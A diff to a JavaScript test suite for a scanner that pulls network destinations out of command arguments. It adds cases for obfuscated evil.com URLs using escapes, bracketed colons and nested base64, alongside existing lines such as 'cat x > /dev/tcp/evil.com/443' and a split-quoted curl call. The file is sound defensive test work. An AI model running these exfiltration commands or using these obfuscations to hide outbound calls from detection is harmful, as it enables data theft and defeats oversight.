@@ -324,6 +324,14 @@ describe("scan: strict", () => {
     [`"htt" + "ps://evil.com"`, ["ps://evil.com", "https://evil.com"]],
     ["$'\\x68\\x74\\x74\\x70://evil.com'", ["x70://evil.com", "http://evil.com"]],
     ["curl ev''il.com/x", ["il.com/x", "evil.com/x"]],
+    ["https[:]//evil.com/x", ["evil.com/x", "https://evil.com/x"]],
+    ["htt%70s:%2f%2fevil.com/x", ["https://evil.com/x"]],
+    ["htt\\u{70}s:\\U0000002f/evil.com/x", ["https://evil.com/x"]],
+    [`say "my" "evil.com"`, ["evil.com"]],
+    [`/files/${btoa("https://evil.com/x")}/x.png`, ["https://evil.com/x"]],
+    [`${"x/".repeat(sliceCharacters)}/${btoa("https://evil.com/x")}`, ["https://evil.com/x"]],
+    [btoa(btoa(btoa("https://evil.com/x"))), ["https://evil.com/x"]],
+    [btoa("s3://ab"), ["s3://ab"]],
     ["see github.com", ["github.com"]],
     ["cat x > /dev/tcp/evil.com/443", ["evil.com/443"]],
     ["//evil.com/x.js", ["evil.com/x.js"]],
@@ -345,7 +353,8 @@ describe("scan: strict", () => {
     "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route image@sha256:0123456789ab",
     "port = 2130706433 0xdeadbeef 00:11:22:33:44:55 10:30:00 a[::2] std::vector curl 7.12.0",
     "C:\\Users\\bob \\d+\\.\\w+ App\\Models\\User",
-    "aGVsbG8gd29ybGQgaGVsbG8="
+    "aGVsbG8gd29ybGQgaGVsbG8=",
+    btoa(btoa(btoa(btoa("https://evil.com/x"))))
   ])("leaves %s", (text) => assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, []))
 
   it("lists a URL with escapes in it once", () => {
